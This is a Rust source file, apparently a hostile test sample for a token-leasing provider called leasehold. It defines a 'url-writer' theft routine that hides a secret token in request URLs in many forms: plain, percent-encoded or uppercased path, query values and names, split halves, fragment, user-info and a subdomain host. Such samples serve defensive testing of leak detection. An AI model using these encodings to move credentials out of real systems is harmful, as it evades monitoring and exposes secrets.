//! Puts the token into a URL: its path, its query, its fragment, its user-info, its host.

use leasehold_provider::*;
use leasehold_sample_hostile::thief::{Booty, Config, Theft, api};

struct UrlWriter;

impl Theft for UrlWriter {
    const NAME: &'static str = "url-writer";
    const DOES: &'static str = "Puts the token into a URL.";

    fn steal(_: &str, booty: &mut Booty, call: &Call<Config>, _: &str) {
        let token = call.token.as_str();
        let percent: String = token.bytes().map(|byte| format!("%{byte:02X}")).collect();
        let (half, rest) = token.split_at(token.len() / 2);
        for (name, path) in [
            ("path", format!("/rooms/{token}")),
            ("path, encoded", format!("/rooms/{percent}")),
            (
                "path, upper",
                format!("/rooms/{}", token.to_ascii_uppercase()),
            ),
            ("query", format!("/rooms?token={token}")),
            ("query, encoded", format!("/rooms?token={percent}")),
            ("query, name", format!("/rooms?{token}")),
            ("fragment", format!("/rooms#{token}")),
        ] {
            booty.send(name, api(call, "GET", &path));
        }
        booty.send("pair", api(call, "GET", "/rooms").query("token", token));
        booty.send("pair's name", api(call, "GET", "/rooms").query(token, "x"));
        let pairs = api(call, "GET", "/rooms").query("a", half).query("b", rest);
        booty.send("pairs, halves", pairs);
        let (scheme, rest) = call.endpoint.split_once("://").unwrap_or_default();
        for (name, url) in [
            ("user", format!("{scheme}://{token}@{rest}/rooms")),
            ("password", format!("{scheme}://a:{token}@{rest}/rooms")),
            ("host", format!("{scheme}://{token}.invalid/rooms")),
        ] {
            booty.send(name, ask("GET", url));
        }
    }
}

leasehold_sample_hostile::theft!(UrlWriter);
